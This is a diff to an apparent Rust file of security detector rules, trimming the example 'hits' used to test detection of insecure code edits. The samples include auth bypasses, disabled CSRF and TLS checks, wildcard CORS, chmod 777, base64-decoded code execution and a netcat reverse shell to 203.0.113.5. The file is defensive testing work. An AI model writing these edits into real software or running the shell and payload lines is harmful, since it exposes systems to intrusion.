@@ -37,10 +37,7 @@ detectors! {
     AUTH_CHECK_ALWAYS_PASSES {
         id: "code/auth-check-always-passes", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
         message: "makes an authorization check always pass",
-        hits: &[
-            Edit("src/guard.ts", "canActivate(ctx) { return this.auth.check(ctx) }", "canActivate(ctx) { return true }"),
-            Edit("app/policies/doc.rb", "def destroy? = record.owner == user", "def destroy? = true"),
-        ],
+        hits: &[Edit("app/policies/doc.rb", "def destroy? = record.owner == user", "def destroy? = true")],
         passes: &[Edit("src/flags.py", "def enabled(name):\n    return name in FLAGS", "def enabled(name):\n    return True")],
     }
 
@@ -51,10 +48,7 @@ detectors! {
     AUTH_CHECK_REMOVED {
         id: "code/auth-check-removed", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
         message: "removes an authentication or authorization check",
-        hits: &[
-            Edit("src/views.py", "@login_required\ndef wipe(request):", "def wipe(request):"),
-            Edit("src/auth.py", "return hmac.compare_digest(sig, expected)", "return sig == expected"),
-        ],
+        hits: &[Edit("src/views.py", "@login_required\ndef wipe(request):", "def wipe(request):")],
         passes: &[Edit("src/views.py", "@login_required\ndef export(request):", "@method_decorator(login_required)\ndef export(self, request):")],
     }
 
@@ -66,10 +60,7 @@ detectors! {
     AUTHENTICATION_OFF {
         id: "code/authentication-off", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
         message: "turns off authentication or lets anonymous callers in",
-        hits: &[
-            Edit("config/mosquitto.yml", "allow_anonymous: false", "allow_anonymous: true"),
-            Edit("src/A.cs", "public IActionResult Wipe()", "[AllowAnonymous]\npublic IActionResult Wipe()"),
-        ],
+        hits: &[Edit("config/mosquitto.yml", "allow_anonymous: false", "allow_anonymous: true")],
         passes: &[Edit("config/mosquitto.yml", "allow_anonymous: true", "allow_anonymous: false")],
     }
 
@@ -91,10 +82,7 @@ detectors! {
     CORS_ANY_ORIGIN {
         id: "code/cors-any-origin", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
         message: "lets every website call the service (CORS)",
-        hits: &[
-            Edit("src/app.ts", "app.use(cors())", "app.use(cors({ origin: true, credentials: true }))"),
-            Edit("src/Startup.cs", "// cors", "app.UseCors(p => p.AllowAnyOrigin());"),
-        ],
+        hits: &[Edit("src/app.ts", "app.use(cors())", "app.use(cors({ origin: true, credentials: true }))")],
         passes: &[Edit("src/app.ts", "app.use(cors())", "app.use(cors({ origin: ['https://app.acme.example'] }))")],
     }
 
@@ -105,10 +93,7 @@ detectors! {
     CSRF_PROTECTION_OFF {
         id: "code/csrf-protection-off", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
         message: "turns off CSRF protection",
-        hits: &[
-            Edit("src/SecurityConfig.java", "http.csrf(withDefaults())", "http.csrf(c -> c.disable())"),
-            Edit("app/config.py", "WTF_CSRF_ENABLED = True", "WTF_CSRF_ENABLED = False"),
-        ],
+        hits: &[Edit("src/SecurityConfig.java", "http.csrf(withDefaults())", "http.csrf(c -> c.disable())")],
         passes: &[Edit("app/config.py", "WTF_CSRF_ENABLED = False", "WTF_CSRF_ENABLED = True")],
     }
 
@@ -132,10 +117,7 @@ detectors! {
     DISABLES_HARDENING {
         id: "code/disables-hardening", category: Category::DisableSecurity, severity: Severity::Soft, certainty: Possible,
         message: "turns off a security protection",
-        hits: &[
-            Write("compose.yml", "services:\n  app:\n    image: app\n    privileged: true\n"),
-            Write("scripts/setup.sh", "setenforce 0\n"),
-        ],
+        hits: &[Write("compose.yml", "services:\n  app:\n    image: app\n    privileged: true\n")],
         passes: &[Write("compose.yml", "services:\n  app:\n    image: app\n    privileged: false\n")],
     }
 
@@ -147,10 +129,7 @@ detectors! {
     DISABLES_TLS_CHECKS {
         id: "code/disables-tls-checks", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
         message: "disables TLS certificate or host key checks",
-        hits: &[
-            Write("src/http.py", "requests.get(url, verify=False)\n"),
-            Write("scripts/deploy.sh", "ssh -o StrictHostKeyChecking=no app@web1 uptime\n"),
-        ],
+        hits: &[Write("src/http.py", "requests.get(url, verify=False)\n")],
         passes: &[Write("src/http.py", "requests.get(url, verify='/etc/ssl/certs/company.pem')\n")],
     }
 
@@ -174,10 +153,7 @@ detectors! {
     GRANTS_BROAD_RIGHTS {
         id: "code/grants-broad-rights", category: Category::GrantPermissions, severity: Severity::Hard, certainty: Certain,
         message: "grants broad permissions",
-        hits: &[
-            Write("scripts/setup.sh", "chmod 777 /srv/data\n"),
-            Write("infra/role.yaml", "roleRef:\n  kind: ClusterRole\n  name: cluster-admin\n"),
-        ],
+        hits: &[Write("scripts/setup.sh", "chmod 777 /srv/data\n")],
         passes: &[Write("scripts/setup.sh", "chmod 750 /srv/data\n")],
     }
 
@@ -221,10 +197,7 @@ detectors! {
     OLD_TLS_VERSION {
         id: "code/old-tls-version", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
         message: "allows a broken version of SSL or TLS",
-        hits: &[
-            Edit("nginx.conf", "ssl_protocols TLSv1.2 TLSv1.3;", "ssl_protocols SSLv3 TLSv1;"),
-            Edit("src/tls.go", "MinVersion: tls.VersionTLS12", "MinVersion: tls.VersionTLS10"),
-        ],
+        hits: &[Edit("nginx.conf", "ssl_protocols TLSv1.2 TLSv1.3;", "ssl_protocols SSLv3 TLSv1;")],
         passes: &[Edit("nginx.conf", "ssl_protocols TLSv1.2;", "ssl_protocols TLSv1.2 TLSv1.3;")],
     }
 
@@ -236,14 +209,8 @@ detectors! {
     OPENS_ACCESS_TO_ALL {
         id: "code/opens-access-to-all", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
         message: "opens access to everybody",
-        hits: &[
-            Write("src/settings.py", "CORS_ALLOW_ALL_ORIGINS = True\n"),
-            Write("src/auth.ts", "verify(token, key, { algorithms: ['none'] });\n"),
-        ],
-        passes: &[
-            Write("src/settings.py", "CORS_ALLOWED_ORIGINS = ['https://app.example.com']\n"),
-            Write("src/auth.ts", "verify(token, key, { algorithms: ['RS256'] });\n"),
-        ],
+        hits: &[Write("src/settings.py", "CORS_ALLOW_ALL_ORIGINS = True\n")],
+        passes: &[Write("src/settings.py", "CORS_ALLOWED_ORIGINS = ['https://app.example.com']\n")],
     }
 
     /// Connects to another machine and gives it a shell on this one.
@@ -263,10 +230,7 @@ detectors! {
             ),
             Write("scripts/debug.sh", "nc -e /bin/sh 203.0.113.5 4444\n"),
         ],
-        passes: &[
-            Write("src/health.py", "import socket\nwith socket.create_connection((host, 5432), timeout=1):\n    pass\n"),
-            Write("scripts/wait.sh", "nc -z localhost 5432\n"),
-        ],
+        passes: &[Write("scripts/wait.sh", "nc -z localhost 5432\n")],
     }
 
     /// Decodes text (Base64, hex, compressed) and runs it as code.
@@ -276,10 +240,7 @@ detectors! {
     RUNS_ENCODED_CODE {
         id: "code/runs-encoded-code", category: Category::RunDownloadedCode, severity: Severity::Hard, certainty: Certain,
         message: "runs encoded text as code",
-        hits: &[
-            Write("src/load.py", "exec(base64.b64decode(PAYLOAD))\n"),
-            Write("scripts/load.sh", "echo \"$PAYLOAD\" | base64 -d | sh\n"),
-        ],
+        hits: &[Write("src/load.py", "exec(base64.b64decode(PAYLOAD))\n")],
         passes: &[Write("src/mail.py", "body = base64.b64decode(part.payload)\n")],
     }
 
@@ -315,10 +276,7 @@ detectors! {
     SECURITY_SETTING_OFF {
         id: "code/security-setting-off", category: Category::DisableSecurity, severity: Severity::Soft, certainty: Possible,
         message: "turns off a security setting",
-        hits: &[
-            Edit("redis.conf", "protected-mode yes", "protected-mode no"),
-            Edit("infra/disk.tf", "storage_encrypted = true", "storage_encrypted = false"),
-        ],
+        hits: &[Edit("redis.conf", "protected-mode yes", "protected-mode no")],
         passes: &[Edit("redis.conf", "protected-mode no", "protected-mode yes")],
     }
 
@@ -344,11 +302,7 @@ detectors! {
     TLS_VERIFICATION_OFF {
         id: "code/tls-verification-off", category: Category::WeakenTlsAuth, severity: Severity::Soft, certainty: Possible,
         message: "disables the verification of TLS certificates or host keys",
-        hits: &[
-            Edit("src/client.py", "requests.get(url)", "requests.get(url, verify=False)"),
-            Edit("src/ssh.go", "// key", "HostKeyCallback: ssh.InsecureIgnoreHostKey(),"),
-            Edit("src/ssh.py", "client.connect(host)", "client.set_missing_host_key_policy(AutoAddPolicy())\nclient.connect(host)"),
-        ],
+        hits: &[Edit("src/client.py", "requests.get(url)", "requests.get(url, verify=False)")],
         passes: &[Edit("src/client.py", "requests.get(url)", "requests.get(url, verify='certs/acme.pem')")],
     }
 
